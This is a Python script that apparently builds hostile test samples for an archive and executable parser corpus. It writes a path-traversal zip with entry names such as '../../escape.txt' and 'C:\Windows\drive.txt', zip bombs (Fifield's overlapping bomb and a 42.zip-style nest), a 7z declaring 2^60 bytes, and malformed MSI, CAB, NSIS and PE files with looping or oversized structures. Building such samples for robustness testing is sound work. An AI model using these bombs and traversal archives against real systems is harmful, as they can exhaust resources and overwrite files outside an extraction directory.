#!/usr/bin/env python3
"""Hand-built hostile samples (the corpus's malformed cases; everything else is
made by real tools). Deterministic: fixed timestamps, no randomness.

Usage: make_traps.py OUTDIR
  traversal.zip  stored zip whose entry names try to escape an extraction
                 directory: ../, absolute, drive letter, backslashes, NUL,
                 Windows device name, and a 65,535-byte name.

Usage: make_traps.py --bombs OUTDIR   (run in corpus/, after the real-tool
samples; the patched ones start from them)
  overlap_bomb.zip   David Fifield's overlapping-entry bomb: 100 entries share
                     one DEFLATE kernel of 20 MiB of zeros (2 GB in all)
  nest42.zip         42.zip-style: 5 levels of 16 identical zips, leaves of
                     16 MiB of zeros (16^5 leaves, 16 TiB declared)
  sevenz_huge.7z     7z whose folder declares 2^60 unpacked bytes (Copy coder)
  cab_4gb.cab        cab/stored.cab with its first file claiming 4 GB
  cfb_fat_cycle.msi  msi/simple.msi whose directory FAT chain points at itself
  cfb_difat_loop.msi msi/simple.msi claiming 200 FAT sectors through a DIFAT
                     sector that links to itself
  cfb_huge_counts.msi msi/simple.msi claiming 2^32-1 directory and 2^31 FAT
                     sectors
  nsis_2gb_header.exe nsis/zlib.exe whose first header claims a 2 GB header
  pe_65535_sections.exe pe/hello_x64.exe with NumberOfSections = 65,535
  pe_resource_loop.exe  pe/gui_x64.exe whose resource root's first entry is a
                     subdirectory pointing back at the root
  pe_overlay_window.exe pe/hello_x64.exe whose last section ends 2 GB past the
                     end of the file, followed by a zip
"""
import struct
import sys
import zlib
from pathlib import Path


def zip_stored(entries):
    """A zip of stored entries with raw byte names (no name rewriting)."""
    out = bytearray()
    central = bytearray()
    for name, data in entries:
        crc = zlib.crc32(data) & 0xFFFFFFFF
        offset = len(out)
        # local header: version 10, flags 0, method 0, time/date fixed (1980-01-01)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 10, 0, 0, 0, 0x21, crc, len(data), len(data), len(name), 0)
        out += name + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 10, 0, 0, 0, 0x21, crc, len(data), len(data), len(name), 0, 0, 0, 0, 0, offset
        )
        central += name
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_offset, 0)
    return bytes(out)


def deflate(data_chunks):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = b"".join(c.compress(x) for x in data_chunks)
    return out + c.flush()


def zeros(n, chunk=1 << 20):
    while n > 0:
        k = min(n, chunk)
        yield bytes(k)
        n -= k


def crc_zeros(n, crc=0):
    for z in zeros(n):
        crc = zlib.crc32(z, crc)
    return crc & 0xFFFFFFFF


def zip_raw(entries):
    """A zip of deflated entries given as (name, raw deflate, size, crc)."""
    out = bytearray()
    central = bytearray()
    for name, comp, size, crc in entries:
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(comp), size, len(name), 0)
        out += name + comp
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(comp), size, len(name), 0, 0, 0, 0, 0, offset
        )
        central += name
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_offset, 0)
    return bytes(out)


def zip_deflated(entries):
    return zip_raw([(n, deflate([d]), len(d), zlib.crc32(d) & 0xFFFFFFFF) for n, d in entries])


def overlap_bomb(n_files=100, kernel_size=20 << 20):
    """Fifield's construction: the local header of file i+1 is quoted by a
    stored DEFLATE block inside file i, so every file decodes to the headers
    after it and then the one shared kernel."""
    kernel = deflate(zeros(kernel_size))
    names = [b"%04d" % i for i in range(n_files)]
    headers = [None] * n_files
    crcs = [0] * n_files
    comps = [0] * n_files
    sizes = [0] * n_files
    # Built from the last file back: each header holds the CRC and sizes of
    # everything after it.
    after_out = b""  # headers output by file i beyond the kernel
    after_comp = len(kernel)
    for i in reversed(range(n_files)):
        sizes[i] = len(after_out) + kernel_size
        comps[i] = after_comp
        crcs[i] = crc_zeros(kernel_size, zlib.crc32(after_out))
        h = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crcs[i], comps[i], sizes[i], len(names[i]), 0) + names[i]
        headers[i] = h
        # the file before quotes this header in a stored block (5 bytes)
        after_out = h + after_out
        after_comp += len(h) + 5
    out = bytearray()
    offsets = []
    for i in range(n_files):
        offsets.append(len(out))
        out += headers[i]
        if i + 1 < n_files:
            nxt = len(headers[i + 1])
            out += struct.pack("<BHH", 0, nxt, nxt ^ 0xFFFF)
    out += kernel
    central = bytearray()
    for i in range(n_files):
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crcs[i], comps[i], sizes[i], len(names[i]), 0, 0, 0, 0, 0, offsets[i]
        ) + names[i]
    cd = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n_files, n_files, len(central), cd, 0)
    return bytes(out)


def nest42(levels=5, fan=16, leaf_size=16 << 20):
    kernel = deflate(zeros(leaf_size))
    crc = crc_zeros(leaf_size)
    z = zip_raw([(b"%x.bin" % i, kernel, leaf_size, crc) for i in range(fan)])
    for level in range(levels - 1):
        z = zip_deflated([(b"%d-%x.zip" % (level, i), z) for i in range(fan)])
    return z


def sz_number(v):
    return b"\xff" + struct.pack("<Q", v)


def sevenz_huge(declared=1 << 60):
    packed = b"hello, declared as 2^60 bytes"
    h = bytearray(b"\x01\x04")  # Header, MainStreamsInfo
    h += b"\x06" + b"\x00" + b"\x01" + b"\x09" + bytes([len(packed)]) + b"\x00"  # PackInfo
    h += b"\x07\x0b\x01\x00"  # UnpackInfo, Folder, 1 folder, not external
    h += b"\x01" + b"\x01\x00"  # 1 coder: id size 1, simple; id 00 = Copy
    h += b"\x0c" + sz_number(declared) + b"\x00"  # CodersUnpackSize, End
    h += b"\x08\x00"  # SubStreamsInfo (one file per folder), End
    h += b"\x00"  # End of MainStreamsInfo
    name = "huge.bin".encode("utf-16-le") + b"\x00\x00"
    h += b"\x05\x01" + b"\x11" + bytes([len(name) + 1]) + b"\x00" + name + b"\x00"  # FilesInfo
    h += b"\x00"  # End of Header
    h = bytes(h)
    start = struct.pack("<QQI", len(packed), len(h), zlib.crc32(h) & 0xFFFFFFFF)
    sig = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start) & 0xFFFFFFFF) + start
    return sig + packed + h


def patch(data, at, fmt, *values):
    b = bytearray(data)
    struct.pack_into(fmt, b, at, *values)
    return bytes(b)


def pe_layout(d):
    pe = struct.unpack_from("<I", d, 0x3C)[0]
    nsec, = struct.unpack_from("<H", d, pe + 6)
    opt, = struct.unpack_from("<H", d, pe + 20)
    magic, = struct.unpack_from("<H", d, pe + 24)
    dirs = pe + 24 + (112 if magic == 0x20B else 96)
    return pe, nsec, pe + 24 + opt, dirs


def bombs(outdir):
    (outdir / "overlap_bomb.zip").write_bytes(overlap_bomb())
    (outdir / "nest42.zip").write_bytes(nest42())
    (outdir / "sevenz_huge.7z").write_bytes(sevenz_huge())
    cab = Path("cab/stored.cab").read_bytes()
    coff_files, = struct.unpack_from("<I", cab, 16)
    (outdir / "cab_4gb.cab").write_bytes(patch(cab, coff_files, "<I", 0xFFFFFF00))
    msi = Path("msi/simple.msi").read_bytes()
    fat0, = struct.unpack_from("<I", msi, 76)
    dir0, = struct.unpack_from("<I", msi, 48)
    # FAT entry of the first directory sector: itself.
    (outdir / "cfb_fat_cycle.msi").write_bytes(patch(msi, 512 * (fat0 + 1) + 4 * dir0, "<I", dir0))
    # A DIFAT sector (appended) whose next-DIFAT link is itself; 200 FAT
    # sectors claimed, so the DIFAT must be read past the header's 109.
    own = len(msi) // 512 - 1
    difat = bytearray(b"\xff" * 512)
    struct.pack_into("<I", difat, 508, own)
    loop = patch(patch(msi, 44, "<I", 200), 68, "<II", own, 0xFFFFFFFF) + bytes(difat)
    (outdir / "cfb_difat_loop.msi").write_bytes(loop)
    (outdir / "cfb_huge_counts.msi").write_bytes(patch(patch(msi, 40, "<I", 0xFFFFFFFF), 44, "<I", 0x80000000))
    nsis = Path("nsis/zlib.exe").read_bytes()
    at = nsis.find(b"\xef\xbe\xad\xdeNullsoftInst")
    (outdir / "nsis_2gb_header.exe").write_bytes(patch(nsis, at + 16, "<I", 0x7FFFFFFF))
    hello = Path("pe/hello_x64.exe").read_bytes()
    pe, nsec, sections, dirs = pe_layout(hello)
    (outdir / "pe_65535_sections.exe").write_bytes(patch(hello, pe + 6, "<H", 0xFFFF))
    gui = Path("pe/gui_x64.exe").read_bytes()
    pe, nsec, sections, dirs = pe_layout(gui)
    rsrc_rva, = struct.unpack_from("<I", gui, dirs + 2 * 8)
    for i in range(nsec):
        va, raw_size, raw = struct.unpack_from("<III", gui, sections + 40 * i + 12)
        if va == rsrc_rva:
            root = raw
    # first entry of the root directory: subdirectory at offset 0 (the root)
    (outdir / "pe_resource_loop.exe").write_bytes(patch(gui, root + 16 + 4, "<I", 0x80000000))
    pe, nsec, sections, dirs = pe_layout(hello)
    last = sections + 40 * (nsec - 1)
    raw_size, raw = struct.unpack_from("<II", hello, last + 16)
    window = patch(hello, last + 16, "<I", 0x80000000 - raw)
    window += zip_deflated([(b"after.txt", b"data after the claimed end of the sections\n")])
    (outdir / "pe_overlay_window.exe").write_bytes(window)


def main():
    if sys.argv[1] == "--bombs":
        outdir = Path(sys.argv[2])
        outdir.mkdir(parents=True, exist_ok=True)
        bombs(outdir)
        return
    outdir = Path(sys.argv[1])
    outdir.mkdir(parents=True, exist_ok=True)
    entries = [
        (b"../../escape.txt", b"parent traversal\n"),
        (b"/abs/root.txt", b"absolute path\n"),
        (b"C:\\Windows\\drive.txt", b"drive letter and backslashes\n"),
        (b"..\\..\\win-escape.txt", b"backslash traversal\n"),
        (b"nul\x00byte.txt", b"NUL in the name\n"),
        (b"CON", b"Windows device name\n"),
        (b"dir/../../../up.txt", b"traversal after a directory\n"),
        (b"same.txt", b"first of two equal names\n"),
        (b"same.txt", b"second of two equal names\n"),
        (b"L" * 65535, b"65,535-byte name\n"),
    ]
    (outdir / "traversal.zip").write_bytes(zip_stored(entries))


if __name__ == "__main__":
    main()
